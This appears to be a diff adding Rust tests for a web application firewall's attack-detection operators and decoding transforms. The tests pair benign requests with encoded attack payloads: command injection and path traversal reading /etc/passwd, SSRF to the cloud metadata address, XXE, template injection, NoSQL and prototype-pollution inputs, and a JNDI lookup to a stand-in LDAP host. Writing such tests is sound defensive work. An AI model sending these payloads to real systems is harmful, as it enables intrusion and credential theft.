@@ -1,0 +1,80 @@
+//! The native detector operators (`@detectCmdi`, `@detectPathTraversal`, `@detectSSRF`, `@detectSSTI`,
+//! `@detectJndi`, `@detectNoSQLi`, `@detectXXE`, `@detectProtoPollution`) and the `t:deepDecode` /
+//! `t:base64IfEncoded` transformations, loaded from SecLang and run through real transactions.
+
+mod common;
+
+use common::*;
+use portcullis_waf::Engine;
+use std::sync::Arc;
+
+fn engine(rules: &str) -> Arc<Engine> {
+    Arc::new(Engine::from_str(&format!("SecRuleEngine On\n{rules}"), "t.conf").unwrap_or_else(|e| panic!("{e}")))
+}
+
+/// One rule with `operator` on ARGS (names and values); returns (blocked, msg, logdata) for `query`.
+fn run(operator: &str, transforms: &str, query: &str) -> (bool, String, String) {
+    let e = engine(&format!(
+        "SecRule ARGS|ARGS_NAMES \"@{operator}\" \"id:100,phase:1,deny,status:403,capture,{transforms}msg:'%{{TX.1}}',logdata:'%{{TX.0}}'\""
+    ));
+    let (iv, tx) = get(&e, query, &[]);
+    let m = tx.matches().first().map(|m| (m.msg.clone(), m.data.clone())).unwrap_or_default();
+    (iv.is_some_and(|i| i.status == 403), m.0, m.1)
+}
+
+#[test]
+fn each_operator_matches_its_attack_and_passes_benign() {
+    let cases: &[(&str, &str, &str)] = &[
+        ("detectCmdi", "/?q=x%3Bcat%24%7BIFS%7D%2Fetc%2Fpasswd", "/?q=salt%3B+pepper+%26+cats"),
+        ("detectPathTraversal", "/?f=..%2F..%2F..%2Fetc%2Fpasswd", "/?f=docs%2Fguide%2Fintro.md"),
+        ("detectSSRF", "/?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F", "/?url=https%3A%2F%2Fexample.com%2Fhook"),
+        ("detectSSTI", "/?name=%7B%7B7*7%7D%7D", "/?name=%7B%7B+user.name+%7D%7D"),
+        ("detectJndi", "/?x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fe.example%2Fa%7D", "/?x=%24%7Bprice%7D"),
+        ("detectNoSQLi", "/?user%5B%24ne%5D=admin", "/?items%5B0%5D%5Bname%5D=a"),
+        (
+            "detectXXE",
+            "/?xml=%3C!DOCTYPE+a+%5B%3C!ENTITY+x+SYSTEM+%22file%3A%2F%2F%2Fetc%2Fpasswd%22%3E%5D%3E%3Ca%3E%26x%3B%3C%2Fa%3E",
+            "/?xml=%3Corder%3E%3Cid%3E1%3C%2Fid%3E%3C%2Forder%3E",
+        ),
+        ("detectProtoPollution", "/?__proto__%5BisAdmin%5D=1", "/?user%5Bprofile%5D%5Bname%5D=bob"),
+    ];
+    for (op, attack, benign) in cases {
+        let (blocked, msg, data) = run(op, "", attack);
+        assert!(blocked, "@{op} should block {attack}");
+        assert!(!msg.is_empty() && !data.is_empty(), "@{op}: capture gives TX.0/TX.1 (msg {msg:?}, data {data:?})");
+        let (blocked, ..) = run(op, "", benign);
+        assert!(!blocked, "@{op} should pass {benign}");
+    }
+}
+
+#[test]
+fn operator_names_are_case_insensitive_and_capture_reason() {
+    let (blocked, msg, data) = run("detectssrf", "", "/?u=http%3A%2F%2F127.0.0.1%3A8080%2F");
+    assert!(blocked);
+    assert!(msg.contains("loopback"), "{msg}");
+    assert_eq!(data, "loopback");
+}
+
+#[test]
+fn deep_decode_reveals_double_encoding() {
+    // `%252e%252e%252f` arrives as `%2e%2e%2f` after the engine's own URL decoding; @streq sees the layers.
+    let rule = |t: &str| engine(&format!("SecRule ARGS:f \"@beginsWith ../../\" \"id:1,phase:1,deny,status:403,{t}\""));
+    let (iv, _) = get(&rule("t:none"), "/?f=%252e%252e%252f%252e%252e%252fetc", &[]);
+    assert!(iv.is_none());
+    let (iv, _) = get(&rule("t:none,t:deepDecode"), "/?f=%252e%252e%252f%252e%252e%252fetc", &[]);
+    assert_eq!(iv.map(|i| i.status), Some(403));
+}
+
+#[test]
+fn base64_if_encoded_feeds_detectors_and_keeps_plain_values() {
+    // base64("${jndi:ldap://x}") in a header-like parameter.
+    let e = engine("SecRule ARGS \"@detectJndi\" \"id:1,phase:1,deny,status:403,t:none,t:base64IfEncoded\"");
+    let (iv, _) = get(&e, "/?token=JHtqbmRpOmxkYXA6Ly94fQ%3D%3D", &[]);
+    assert_eq!(iv.map(|i| i.status), Some(403));
+    let (iv, _) = get(&e, "/?token=QWxsIGdvb2QgaGVyZQ%3D%3D", &[]);
+    assert!(iv.is_none());
+    // A plain value is left as it is (the literal still matches).
+    let e = engine("SecRule ARGS \"@streq Administrator\" \"id:1,phase:1,deny,status:403,t:none,t:base64IfEncoded\"");
+    let (iv, _) = get(&e, "/?u=Administrator", &[]);
+    assert_eq!(iv.map(|i| i.status), Some(403));
+}
